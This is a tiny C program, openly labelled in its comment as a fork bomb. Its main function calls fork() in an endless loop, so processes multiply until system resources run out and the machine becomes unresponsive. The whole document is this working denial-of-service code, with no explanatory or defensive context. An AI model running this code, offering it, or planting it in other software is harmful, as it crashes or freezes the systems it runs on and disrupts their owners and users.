/* A fork bomb. Where no more fork, all of them go on trying. */
#include <unistd.h>

int main(void) {
    for (;;) fork();
}
